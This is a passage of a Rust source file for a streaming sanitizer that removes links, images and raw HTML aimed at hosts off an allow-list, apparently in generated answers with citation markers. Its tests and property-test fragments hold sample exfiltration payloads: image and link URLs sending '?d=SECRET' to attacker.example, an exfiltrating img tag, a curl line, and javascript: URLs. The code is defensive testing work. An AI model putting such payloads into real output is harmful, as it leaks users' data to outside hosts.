        return if eof { Angle::No(j) } else { Angle::More };
    }
    if b[j] != b'@' {
        return Angle::No(j);
    }
    j += 1;
    let domain_start = j;
    while let Some(&c) = b.get(j) {
        if c.is_ascii_alphanumeric() || c == b'-' || c == b'.' {
            j += 1;
        } else {
            break;
        }
    }
    match b.get(j) {
        None if eof => Angle::No(j),
        None => Angle::More,
        Some(b'>') if j > domain_start => Angle::Autolink {
            len: j + 1,
            email: true,
        },
        _ => Angle::No(j),
    }
}

/// Whitespace inside a tag: spaces, tabs, and at most one line ending per run (a blank line
/// ends it). Returns the offset after it, `Err(offset)` at a blank line, or `None` at the end.
fn tag_space(b: &[u8], mut k: usize) -> Option<Result<usize, usize>> {
    let mut newlines = 0;
    while let Some(&c) = b.get(k) {
        match c {
            b' ' | b'\t' | b'\r' | b'\x0c' => {}
            b'\n' => {
                newlines += 1;
                if newlines > 1 {
                    return Some(Err(k));
                }
            }
            _ => return Some(Ok(k)),
        }
        k += 1;
    }
    None
}

fn open_tag(b: &[u8], eof: bool) -> Angle {
    let more = |k| if eof { Angle::No(k) } else { Angle::More };
    let mut k = 1;
    while b
        .get(k)
        .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
    {
        k += 1;
    }
    loop {
        let Some(&c) = b.get(k) else { return more(k) };
        match c {
            b'>' => return Angle::Html(k + 1),
            b'/' => {
                return match b.get(k + 1) {
                    Some(b'>') => Angle::Html(k + 2),
                    None => more(k + 1),
                    _ => Angle::No(k + 1),
                };
            }
            c if is_ws(c) => {}
            _ => return Angle::No(k),
        }
        // Whitespace, then an attribute, `/>` or `>`.
        let after = match tag_space(b, k) {
            None => return more(b.len()),
            Some(Err(at)) => return Angle::No(at),
            Some(Ok(after)) => after,
        };
        k = after;
        let c = b[k];
        if c == b'>' || c == b'/' {
            continue;
        }
        if !(c.is_ascii_alphabetic() || c == b'_' || c == b':') {
            return Angle::No(k);
        }
        while b
            .get(k)
            .is_some_and(|c| c.is_ascii_alphanumeric() || b"_.:-".contains(c))
        {
            k += 1;
        }
        // Optional `= value`.
        let before_eq = k;
        let at = match tag_space(b, k) {
            None => return more(b.len()),
            Some(Err(at)) => return Angle::No(at),
            Some(Ok(at)) => at,
        };
        if b[at] != b'=' {
            k = before_eq;
            continue;
        }
        k = match tag_space(b, at + 1) {
            None => return more(b.len()),
            Some(Err(at)) => return Angle::No(at),
            Some(Ok(v)) => v,
        };
        match b[k] {
            q @ (b'"' | b'\'') => {
                let mut j = k + 1;
                loop {
                    let Some(&c) = b.get(j) else { return more(j) };
                    if c == q {
                        break;
                    }
                    if c == b'\n' && blank_line_after(&b[j + 1..]) != Some(false) {
                        return match blank_line_after(&b[j + 1..]) {
                            Some(true) => Angle::No(j),
                            _ => more(j),
                        };
                    }
                    j += 1;
                }
                k = j + 1;
            }
            _ => {
                let start = k;
                while b
                    .get(k)
                    .is_some_and(|c| !is_ws(*c) && !b"\"'=<>`".contains(c))
                {
                    k += 1;
                }
                if k == start {
                    return Angle::No(k);
                }
            }
        }
    }
}

fn close_tag(b: &[u8], eof: bool) -> Angle {
    let more = |k| if eof { Angle::No(k) } else { Angle::More };
    match b.get(2) {
        None => return more(2),
        Some(c) if c.is_ascii_alphabetic() => {}
        _ => return Angle::No(2),
    }
    let mut k = 3;
    while b
        .get(k)
        .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'-')
    {
        k += 1;
    }
    match tag_space(b, k) {
        None => more(b.len()),
        Some(Err(at)) => Angle::No(at),
        Some(Ok(at)) if b[at] == b'>' => Angle::Html(at + 1),
        Some(Ok(at)) => Angle::No(at),
    }
}

enum Group {
    /// Its length (from the opening byte) and its destination as written.
    Done {
        len: usize,
        dest: String,
    },
    No(usize),
    More,
}

/// Spaces and tabs with at most one line ending; `Err` at a blank line, `None` at the end.
fn link_space(b: &[u8], k: usize) -> Option<Result<usize, usize>> {
    tag_space(b, k)
}

/// A link destination at `k`: `<...>` or a run without spaces with balanced parentheses.
/// Returns (start, end of destination text, offset after it).
fn destination_at(b: &[u8], k: usize, eof: bool) -> Result<(usize, usize, usize), Group> {
    let more = |k| if eof { Group::No(k) } else { Group::More };
    if b.get(k) == Some(&b'<') {
        let mut j = k + 1;
        loop {
            match b.get(j) {
                None => return Err(more(j)),
                Some(b'>') => return Ok((k + 1, j, j + 1)),
                Some(b'\n' | b'<') => return Err(Group::No(j)),
                Some(b'\\') => j += escape_len(b, j),
                Some(_) => j += 1,
            }
        }
    }
    let mut depth = 0usize;
    let mut j = k;
    loop {
        let Some(&c) = b.get(j) else {
            return Err(more(j));
        };
        match c {
            b'\\' => {
                if j + 1 >= b.len() && !eof {
                    return Err(Group::More);
                }
                j += escape_len(b, j);
                continue;
            }
            b'(' => depth += 1,
            b')' if depth == 0 => break,
            b')' => depth -= 1,
            c if c <= b' ' || c == 0x7f => break,
            _ => {}
        }
        j += 1;
    }
    if depth > 0 {
        return Err(Group::No(j));
    }
    Ok((k, j, j))
}

/// A link title at `k` (`"..."`, `'...'` or `(...)`), no blank line inside: offset after it.
fn title_at(b: &[u8], k: usize, eof: bool) -> Result<usize, Group> {
    let more = |k| if eof { Group::No(k) } else { Group::More };
    let close = match b[k] {
        b'"' => b'"',
        b'\'' => b'\'',
        b'(' => b')',
        _ => return Err(Group::No(k)),
    };
    let mut j = k + 1;
    loop {
        let Some(&c) = b.get(j) else {
            return Err(more(j));
        };
        if c == b'\\' {
            if j + 1 >= b.len() && !eof {
                return Err(Group::More);
            }
            j += escape_len(b, j);
            continue;
        }
        if c == close {
            return Ok(j + 1);
        }
        if close == b')' && c == b'(' {
            return Err(Group::No(j));
        }
        if c == b'\n' {
            match blank_line_after(&b[j + 1..]) {
                Some(true) => return Err(Group::No(j)),
                None => return Err(more(j)),
                Some(false) => {}
            }
        }
        j += 1;
    }
}

/// `(destination "title")` at the start of `s` (which starts with `(`).
fn destination_group(s: &str, eof: bool) -> Group {
    let b = s.as_bytes();
    let more = |k| if eof { Group::No(k) } else { Group::More };
    let k = match link_space(b, 1) {
        None => return more(b.len()),
        Some(Err(at)) => return Group::No(at),
        Some(Ok(k)) => k,
    };
    if b[k] == b')' {
        return Group::Done {
            len: k + 1,
            dest: String::new(),
        };
    }
    let (start, end, after) = match destination_at(b, k, eof) {
        Ok(d) => d,
        Err(g) => return g,
    };
    let mut k = match link_space(b, after) {
        None => return more(b.len()),
        Some(Err(at)) => return Group::No(at),
        Some(Ok(k)) => k,
    };
    if b[k] != b')' {
        if k == after {
            return Group::No(k);
        }
        k = match title_at(b, k, eof) {
            Ok(k) => k,
            Err(g) => return g,
        };
        k = match link_space(b, k) {
            None => return more(b.len()),
            Some(Err(at)) => return Group::No(at),
            Some(Ok(k)) => k,
        };
        if b[k] != b')' {
            return Group::No(k);
        }
    }
    Group::Done {
        len: k + 1,
        dest: s[start..end].to_owned(),
    }
}

/// What follows `[label]:` of a link reference definition: a destination, an optional
/// title, then the end of the line. The length excludes the line ending.
fn definition_tail(s: &str, eof: bool) -> Group {
    let b = s.as_bytes();
    let more = |k| if eof { Group::No(k) } else { Group::More };
    let k = match link_space(b, 0) {
        None => return more(b.len()),
        Some(Err(at)) => return Group::No(at),
        Some(Ok(k)) => k,
    };
    let (start, end, after) = match destination_at(b, k, eof) {
        Ok(d) if d.2 > k => d,
        Ok(_) => return Group::No(k),
        Err(Group::No(m)) if m == b.len() && eof => (k, m, m),
        Err(g) => return g,
    };
    let done = |len| Group::Done {
        len,
        dest: s[start..end].to_owned(),
    };
    // The end of the line, right after the destination or after a title.
    let line_end = |from: usize| -> Option<Result<usize, usize>> {
        let mut j = from;
        loop {
            match b.get(j) {
                None => return None,
                Some(b' ' | b'\t' | b'\r') => j += 1,
                Some(b'\n') => return Some(Ok(j)),
                Some(_) => return Some(Err(j)),
            }
        }
    };
    match line_end(after) {
        None if eof => done(b.len()),
        None => Group::More,
        Some(Ok(_)) => done(after),
        Some(Err(t)) if t > after => match title_at(b, t, eof) {
            Ok(k) => match line_end(k) {
                None if eof => done(b.len()),
                None => Group::More,
                Some(Ok(_)) => done(k),
                Some(Err(m)) => Group::No(m),
            },
            Err(g) => g,
        },
        Some(Err(m)) => Group::No(m),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use pulldown_cmark::{Event, Options, Parser, Tag};

    fn none() -> AllowedHosts {
        AllowedHosts::default()
    }

    fn intranet() -> AllowedHosts {
        AllowedHosts::new(&["intranet.example.com", "*.docs.example.com"]).unwrap()
    }

    fn clean(text: &str) -> String {
        sanitize(text, &none()).text
    }

    /// Every piece of the streamed output, split at every byte offset (on char boundaries)
    /// and in one-byte pieces, must join into the whole text's output.
    fn assert_stream_agrees(text: &str, hosts: &AllowedHosts) {
        let whole = sanitize(text, hosts);
        for at in (0..=text.len()).filter(|&at| text.is_char_boundary(at)) {
            let mut s = StreamSanitizer::new(hosts.clone());
            let mut out = s.push(&text[..at]);
            out.push_str(&s.push(&text[at..]));
            out.push_str(&s.finish());
            assert_eq!(out, whole.text, "split at {at} of {text:?}");
            assert_eq!(s.removed(), whole.removed, "split at {at} of {text:?}");
        }
        let mut s = StreamSanitizer::new(hosts.clone());
        let mut out = String::new();
        for c in text.chars() {
            out.push_str(&s.push(c.encode_utf8(&mut [0; 4])));
        }
        out.push_str(&s.finish());
        assert_eq!(out, whole.text, "char by char: {text:?}");
    }

    /// Hosts of the bare URLs a GFM renderer could link in `text` (`None`: no host).
    fn bare_hosts(text: &str) -> Vec<Option<String>> {
        let lower = text.to_ascii_lowercase();
        let mut starts: Vec<(usize, &str)> = ["http://", "https://", "ftp://", "www."]
            .into_iter()
            .flat_map(|p| lower.match_indices(p).map(move |(at, _)| (at, p)))
            .collect();
        starts.sort_unstable();
        let mut hosts = Vec::new();
        let mut covered = 0;
        for (at, p) in starts {
            // Inside an earlier URL: part of its path.
            if at < covered {
                continue;
            }
            covered = lower[at..]
                .find(|c: char| c.is_whitespace() || c == '<')
                .map_or(lower.len(), |e| at + e);
            {
                let from = if p == "www." { at } else { at + p.len() };
                let authority: String = lower[from..]
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || ".-:@\\[]&%".contains(*c))
                    .collect();
                let authority = authority.trim_end_matches(|c| ".,:;!?*_~'\")".contains(c));
                let ok = p != "ftp://" && !authority.contains(['@', '\\', '[', ']', '&']);
                hosts.push(ok.then(|| authority.split(':').next().unwrap().to_owned()));
            }
        }
        hosts
    }

    /// Links and images to hosts off `hosts`, raw HTML, and bare URLs off `hosts`, that
    /// pulldown-cmark (CommonMark with extensions) finds in `text`.
    fn live_links_off(text: &str, hosts: &AllowedHosts) -> Vec<String> {
        let mut found = Vec::new();
        // Wiki links (`[[page]]`) only name pages of the reader's own site.
        let options =
            Options::all() - Options::ENABLE_WIKILINKS - Options::ENABLE_SMART_PUNCTUATION;
        // Consecutive text events are one run of text for a renderer's autolinker.
        let mut run = String::new();
        let check_run = |run: &mut String, found: &mut Vec<String>| {
            for host in bare_hosts(run) {
                if !host.is_some_and(|h| hosts.allows(&h)) {
                    found.push(format!("url in {run}"));
                }
            }
            run.clear();
        };
        for event in Parser::new_ext(text, options) {
            if let Event::Text(t) = &event {
                run.push_str(t);
                continue;
            }
            check_run(&mut run, &mut found);
            match event {
                Event::Start(Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. }) => {
                    // A destination without `:`, `/` or `\\` names a page of the reader's
                    // own site (kept only as a link reference definition).
                    let ok = !dest_url.contains([':', '/', '\\'])
                        || Url::parse(&dest_url).is_ok_and(|u| {
                            matches!(u.scheme(), "http" | "https")
                                && u.host_str().is_some_and(|h| hosts.allows(h))
                        });
                    if !ok {
                        found.push(format!("link {dest_url}"));
                    }
                }
                Event::Html(h) | Event::InlineHtml(h) if h.trim_start().starts_with('<') => {
                    found.push(format!("html {h}"));
                }
                Event::Code(t) => {
                    run.push_str(&t);
                    check_run(&mut run, &mut found);
                }
                _ => {}
            }
        }
        check_run(&mut run, &mut found);
        found
    }

    fn live_links(text: &str) -> Vec<String> {
        live_links_off(text, &none())
    }

    #[test]
    fn images_become_their_alt_text() {
        assert_eq!(
            clean("See ![the secret](https://attacker.example/?d=SECRET) now."),
            "See the secret now."
        );
        assert_eq!(clean("![](https://attacker.example/p.png)"), "");
    }

    #[test]
    fn inline_links_become_their_text() {
        assert_eq!(
            clean(r#"Read [the form](https://attacker.example/f "Title") first [2]."#),
            "Read the form first [2]."
        );
        assert_eq!(clean("[x](<https://a.example/b c>)"), "x");
        assert_eq!(clean("[x]( https://a.example/(b) )"), "x");
    }

    #[test]
    fn citation_markers_survive_untouched() {
        let text = "Employees get 25 days [1]. Carry over 5 [2, 3][4].";
        assert_eq!(clean(text), text);
        assert_eq!(sanitize(text, &none()).removed, 0);
    }

    #[test]
    fn a_link_on_a_citation_marker_keeps_the_marker() {
        assert_eq!(
            clean("25 days [1](https://attacker.example/?d=x)."),
            "25 days [1]."
        );
    }

    #[test]
    fn nested_brackets_and_images_inside_links_are_removed() {
        assert_eq!(
            clean("[a [b] ![c](https://x.example/i.png)](https://attacker.example/)"),
            "a [b] c"
        );
        assert_eq!(
            clean("[![logo](https://attacker.example/l.png)](https://attacker.example/)"),
            "logo"
        );
    }

    #[test]
    fn reference_definitions_are_removed_and_references_stay_text() {
        let text = "See [the form][f] and [1].\n\n[f]: https://attacker.example/?d=S\n[1]: <//attacker.example> \"t\"\n";
        assert_eq!(clean(text), "See [the form][f] and [1].\n\n\n\n");
    }

    #[test]
    fn autolinks_and_bare_urls_are_removed() {
        assert_eq!(
            clean(
                "Go to <https://attacker.example/?d=S>, https://attacker.example/x. or www.attacker.example!"
            ),
            "Go to (link removed), (link removed). or (link removed)!"
        );
        assert_eq!(clean("(see https://a.example/x)"), "(see (link removed))");
        assert_eq!(
            clean("mail <hr@company.example>"),
            "mail hr@company.example"
        );
    }

    #[test]
    fn urls_glued_to_words_or_escaped_are_removed() {
        assert_eq!(clean("xhttps://attacker.example/"), "x(link removed)");
        assert_eq!(clean(r"https:\/\/attacker.example/"), "(link removed)");
        assert_eq!(
            clean("&#104;ttps&#58;//attacker.example/"),
            "(link removed)"
        );
    }

    #[test]
    fn raw_html_is_removed_whatever_it_points_to() {
        assert_eq!(
            clean(r#"a <img src="https://attacker.example/?d=S" alt="x>y"> b"#),
            "a  b"
        );
        assert_eq!(
            clean("<a href='https://intranet.example.com/'>text</a>"),
            "text"
        );
        assert_eq!(
            clean("x <!-- hidden\n--> y <?php x ?> <!DOCTYPE html>"),
            "x  y  "
        );
    }

    #[test]
    fn comparisons_and_plain_brackets_are_left_alone() {
        let text = "Under 5 < 6 and x<3, [draft] (2024), a > b, 3 * 4 [ok]: fine!";
        assert_eq!(clean(text), text);
    }

    #[test]
    fn javascript_and_data_urls_are_removed_even_with_an_allow_list() {
        let hosts = intranet();
        let out = sanitize(
            "[a](javascript:alert(1)) ![b](data:image/png;base64,AAAA) <javascript:alert(1)>",
            &hosts,
        );
        assert_eq!(out.text, "a b (link removed)");
        assert_eq!(out.removed, 3);
    }

    #[test]
    fn relative_and_protocol_relative_destinations_are_removed() {
        assert_eq!(
            clean("[a](//attacker.example/x) [b](/v1/x) [c](\\\\attacker.example)"),
            "a b c"
        );
    }

    #[test]
    fn links_to_an_allowed_host_survive() {
        let hosts = intranet();
        let text = "Use [the form](https://intranet.example.com/forms/leave) [1] or \
            https://intranet.example.com/hr, ![logo](https://intranet.example.com/l.png).";
        let out = sanitize(text, &hosts);
        assert_eq!(out.text, text);
        assert_eq!(out.removed, 0);
    }

    #[test]
    fn a_wildcard_allows_subdomains_but_not_the_domain_or_lookalikes() {
        let hosts = intranet();
        assert_eq!(
            sanitize("[a](https://wiki.docs.example.com/x)", &hosts).text,
            "[a](https://wiki.docs.example.com/x)"
        );
        for url in [
            "https://docs.example.com/x",
            "https://evildocs.example.com/x",
            "https://intranet.example.com.attacker.example/x",
            "https://intranet.example.com@attacker.example/x",
            "http://attacker.example/?u=intranet.example.com",
            "ftp://intranet.example.com/x",
        ] {
            assert_eq!(sanitize(&format!("[a]({url})"), &hosts).text, "a", "{url}");
            assert_eq!(
                sanitize(&format!("see {url} now"), &hosts).text,
                "see (link removed) now",
                "{url}"
            );
        }
    }

    #[test]
    fn kept_destinations_are_written_as_the_browser_reads_them() {
        let hosts = intranet();
        assert_eq!(
            sanitize(
                r"[a](HTTPS://user:pw@Intranet.Example.COM/a\(b\)?q=1)",
                &hosts
            )
            .text,
            "[a](https://intranet.example.com/a%28b%29?q=1)"
        );
        assert_eq!(
            sanitize("[a](https:\\\\intranet.example.com\\x)", &hosts).text,
            "[a](https://intranet.example.com/x)"
        );
    }

    #[test]
    fn removing_a_construct_does_not_join_its_neighbours_into_a_link() {
        for text in [
            "[a]<b>(//attacker.example)",
            "<<b>img src=//attacker.example/x.png>",
            "[a][](//x.example)(//attacker.example)",
            "[a](https://x.example)(//attacker.example)",
            "[a](//x.example <b>)",
            "[a <b c=\"]\">](//attacker.example)",
            "[a https://x.example/] ](//attacker.example)",
            "<[x](https://y.example)img src=//attacker.example/p>",
        ] {
            let out = clean(text);
            assert!(
                live_links(&out).is_empty(),
                "{text:?} -> {out:?}: {:?}",
                live_links(&out)
            );
            assert_eq!(clean(&out), out, "not a fixed point: {text:?}");
        }
    }

    #[test]
    fn a_bracket_inside_the_host_makes_the_url_go() {
        let hosts = intranet();
        assert_eq!(
            sanitize("https://intranet.example.com[@attacker.example/x", &hosts).text,
            "(link removed)"
        );
        assert_eq!(
            sanitize(
                "[a https://intranet.example.com/x](https://intranet.example.com/y)",
                &hosts
            )
            .text,
            "[a https://intranet.example.com/x](https://intranet.example.com/y)"
        );
    }

    #[test]
    fn a_kept_url_is_not_extended_by_what_a_removed_tag_joins_to_it() {
        let hosts = intranet();
        let out = sanitize("https://intranet.example.com<b>.attacker.example/x", &hosts);
        assert_eq!(out.text, "(link removed)");
    }

    #[test]
    fn code_spans_are_not_special() {
        assert_eq!(
            clean("run `curl https://attacker.example/`"),
            "run `curl (link removed)`"
        );
        assert_eq!(clean("`a[1]b`"), "`a[1]b`");
    }

    #[test]
    fn a_url_split_across_pieces_never_leaks_at_any_offset() {
        let hosts = intranet();
        for text in [
            "Answer [1]. ![x](https://attacker.example/?d=SECRET) done",
            "go https://attacker.example/?d=SECRET now",
            "www.attacker.example/x and <https://attacker.example/a>",
            "<img src=\"https://attacker.example/\"> [f]\n[f]: https://attacker.example/\n",
            "&#104;ttps&#58;//attacker.example/ [a](https://intranet.example.com/x) end",
            "unclosed [bracket and https://intranet.example.com/ok",
            "一二三 [1] ![é](https://attacker.example/é) ü",
        ] {
            assert_stream_agrees(text, &hosts);
            assert_stream_agrees(text, &none());
            let mut s = StreamSanitizer::new(none());
            let mut streamed = String::new();
            for at in (0..text.len()).filter(|&at| text.is_char_boundary(at)) {
                let next = (at + 1..=text.len())
                    .find(|&n| text.is_char_boundary(n))
                    .unwrap();
                streamed.push_str(&s.push(&text[at..next]));
                assert!(!streamed.contains("attacker.example"), "{streamed:?}");
            }
        }
    }

    #[test]
    fn ordinary_text_is_passed_on_at_once() {
        let mut s = StreamSanitizer::new(none());
        for piece in [
            "Employees get ",
            "25 vacation days ",
            "per year [1]. ",
            "Ask HR. ",
        ] {
            assert_eq!(s.push(piece), piece);
        }
        // Only what may still start a URL is held, until the next piece says it does not.
        assert_eq!(s.push("See the h"), "See the ");
        assert_eq!(s.push("andbook."), "handbook.");
        assert_eq!(s.finish(), "");
    }

    #[test]
    fn host_entries_are_validated_and_lowercased() {
        assert_eq!(
            AllowedHosts::new(&["Intranet.Example.COM"]).unwrap(),
            AllowedHosts::new(&["intranet.example.com"]).unwrap()
        );
        for bad in [
            "https://intranet.example.com",
            "intranet.example.com/x",
            "intranet.example.com:8443",
            "",
            "*",
            "a..b",
            "-a.example",
            "bücher.example",
        ] {
            let err = AllowedHosts::new(&[bad]).unwrap_err();
            assert_eq!(err.entry, bad);
            assert!(err.to_string().contains("is not a host name"), "{err}");
        }
    }

    #[test]
    fn the_allow_list_deserialises_from_strings_and_refuses_bad_ones() {
        let ok: AllowedHosts = serde_json::from_str(r#"["*.example.com"]"#).unwrap();
        assert!(ok.allows("a.example.com"));
        let err = serde_json::from_str::<AllowedHosts>(r#"["http://x"]"#).unwrap_err();
        assert!(
            err.to_string().contains("\"http://x\" is not a host name"),
            "{err}"
        );
    }

    /// Pieces an answer (or an attacker) may put together.
    fn fragment() -> impl Strategy<Value = String> {
        prop::sample::select(vec![
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "![",
            "](",
            "]:",
            "[1]",
            "[2, 3]",
            "\\",
            "`",
            " ",
            "\n",
            "\n\n",
            "x",
            "text",
            "https://",
            "http:",
            "//",
            "www.",
            "h",
            "ftp://",
            "attacker.example",
            "intranet.example.com",
            "/p?d=S",
            "<b>",
            "</a>",
            "<img src=",
            "\"",
            "'",
            "&#104;",
            "&#58;",
            "&amp;",
            "@",
            ".",
            ",",
            "mailto:",
            "javascript:",
            "<!--",
            "-->",
            "é",
            "一",
        ])
        .prop_map(str::to_owned)
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(3000))]

        #[test]
        fn no_link_to_a_host_off_the_list_survives(parts in prop::collection::vec(fragment(), 0..24)) {
            let text = parts.concat();
            let hosts = intranet();
            let out = sanitize(&text, &hosts).text;
            let live = live_links_off(&out, &hosts);
            prop_assert!(live.is_empty(), "{text:?} -> {out:?}: {live:?}");
            let none_out = sanitize(&text, &none()).text;
            let live = live_links(&none_out);
            prop_assert!(live.is_empty(), "{text:?} -> {none_out:?}: {live:?}");
        }

        #[test]
        fn sanitizing_twice_changes_nothing(parts in prop::collection::vec(fragment(), 0..24)) {
            let text = parts.concat();
            for hosts in [none(), intranet()] {
                let once = sanitize(&text, &hosts).text;
                prop_assert_eq!(&sanitize(&once, &hosts).text, &once, "{:?}", text);
            }
        }

        #[test]
        fn streaming_gives_the_same_text_at_any_split(
            parts in prop::collection::vec(fragment(), 0..16),
            cuts in prop::collection::vec(0usize..200, 0..6),
        ) {
            let text = parts.concat();
            let hosts = intranet();
            let whole = sanitize(&text, &hosts);
            let mut points: Vec<usize> = cuts.into_iter().map(|c| c % (text.len() + 1))
                .filter(|&c| text.is_char_boundary(c)).collect();
            points.sort_unstable();
            let mut s = StreamSanitizer::new(hosts);
            let (mut out, mut last) = (String::new(), 0);
            for p in points {
                out.push_str(&s.push(&text[last..p]));
                last = p;
            }
            out.push_str(&s.push(&text[last..]));
            out.push_str(&s.finish());
            prop_assert_eq!(&out, &whole.text, "{:?}", text);
            prop_assert_eq!(s.removed(), whole.removed);
        }
    }
}
